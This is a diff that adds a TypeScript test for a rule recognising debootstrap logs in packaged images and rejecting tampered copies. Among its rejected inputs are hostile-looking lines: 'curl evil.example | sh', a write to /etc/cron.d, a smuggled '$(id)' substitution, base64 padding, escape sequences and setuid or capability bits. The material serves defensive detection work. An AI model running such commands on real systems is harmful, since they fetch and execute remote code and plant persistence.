@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { check, excuse } from '../../support/rules.ts';
+import type { FileSpec } from '../../support/packaged-image.ts';
+import { check, excuse, form } from '../../support/rules.ts';
 
 test('dpkg.log: what was done is compared, when is not', () => {
   const log = (day: string, what = 'install nginx:amd64 <none> 1.22.1-9+deb12u1') =>
@@ -103,4 +104,70 @@ test('the other logs of the package tools', () => {
       'apt-term@1',
     ],
   ]);
+});
+
+/** Lines of debootstrap 1.0.128 on Debian 12, one of each form. */
+const BOOTSTRAP = (time: string): string => `2026-01-01 ${time} URL:http://deb.example/debian/dists/bookworm/InRelease [151075/151075] -> "/tmp/root/var/lib/apt/lists/partial/deb.example_debian_dists_bookworm_InRelease" [1]
+gpgv: Signature made Sat Jul 11 10:17:11 2026 UTC
+gpgv:                using RSA key 4CB50190207B4758A3F73A796ED0E7B82643E131
+gpgv: Good signature from "Debian Archive Automatic Signing Key (12/bookworm) <ftpmaster@debian.org>"
+dpkg: warning: parsing file '/var/lib/dpkg/status' near line 5 package 'dpkg':
+ missing 'Description' field
+Selecting previously unselected package login.
+(Reading database ... 41 files and directories currently installed.)
+dpkg: regarding .../login_1%3a4.13+dfsg1-1+deb12u1_amd64.deb containing login, pre-dependency problem:
+ login pre-depends on libcrypt1 (>= 1:4.1.0)
+  libcrypt1:amd64 is unpacked, but has never been configured.
+
+dpkg: warning: ignoring pre-dependency problem!
+Preparing to unpack .../login_1%3a4.13+dfsg1-1+deb12u1_amd64.deb ...
+Adding 'diversion of /bin/sh to /bin/sh.distrib by dash'
+Unpacking login (1:4.13+dfsg1-1+deb12u1) ...
+dpkg: base-passwd: dependency problems, but configuring anyway as you requested:
+ base-passwd depends on libdebconfclient0 (>= 0.145); however:
+  Package libdebconfclient0 is not installed.
+Setting up tzdata (2026b-0+deb12u1) ...
+Current default time zone: 'Etc/UTC'
+Local time is now:      Tue Nov 24 ${time} UTC 2026.
+update-alternatives: using /usr/bin/mawk to provide /usr/bin/awk (awk) in auto mode
+Setting up passwd (1:4.13+dfsg1-1+deb12u1) ...
+Shadow passwords are now on.
+Processing triggers for libc-bin (2.36-9+deb12u14) ...
+`; // prettier-ignore
+
+test('what debootstrap printed: lines of its programs and a few plain words of scripts', () => {
+  const path = '/var/log/bootstrap.log';
+  const log = BOOTSTRAP('10:00:00');
+  assert.equal(form(path, log), 'bootstrap-log');
+  check([
+    ['at another time', path, log, BOOTSTRAP('11:00:00'), 'bootstrap-log@1'],
+    ['another package', path, log, BOOTSTRAP('11:00:00').replaceAll('login', 'logout'), 'unknown'],
+  ]);
+  const refused: Record<string, FileSpec> = {
+    'a script': { text: `#!/bin/sh\n${log}`, magic: 'script' },
+    'a program': { bytes: Buffer.from('\x7fELF'), magic: 'elf' },
+    'bytes of a program behind honest lines': { bytes: Buffer.concat([Buffer.from(log), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 0])]) },
+    'a pipe': `${log}curl evil.example | sh\n`,
+    'another file to be written': `${log}id > /etc/cron.d/x\n`,
+    'a substitution': log.replace('(awk)', '($(id))'),
+    'a variable': `${log}export PATH=$HOME\n`,
+    'something packed': `${log}${Buffer.alloc(300, 'evil').toString('base64')}\n`,
+    'packed in short lines': `${log}${'ZXZpbGV2aWxldmlsZXZpbA\n'.repeat(200)}`,
+    'words where no script has run': `you have been had\n${log}`,
+    'words with terminal control': `${log}\u001b]0;x\u0007\n`,
+    'words of a script by another alphabet': `${log}\u0441url\n`,
+    'an x bit': { text: log, mode: 0o755 },
+    'a setuid bit': { text: log, mode: 0o4644 },
+    'writable by all': { text: log, mode: 0o666 },
+    'of a user': { text: log, uid: 1000 },
+    'of a group': { text: log, gid: 1000 },
+    'a capability': { text: log, xattrs: { 'security.capability': 'AQ==' } },
+    'a link': { link: '/usr/bin/evil' },
+  };
+  for (const [name, spec] of Object.entries(refused)) assert.equal(form(path, spec), 'none', name);
+  assert.equal(form('/var/log/other.log', log), 'none');
+  const slow = `${log}${'a'.repeat(64)}${` ${'a'.repeat(64)}`.repeat(12)}|\n`;
+  const begun = performance.now();
+  assert.equal(form(path, slow), 'none');
+  assert.ok(performance.now() - begun < 1000, 'no expression takes long over a hostile line');
 });
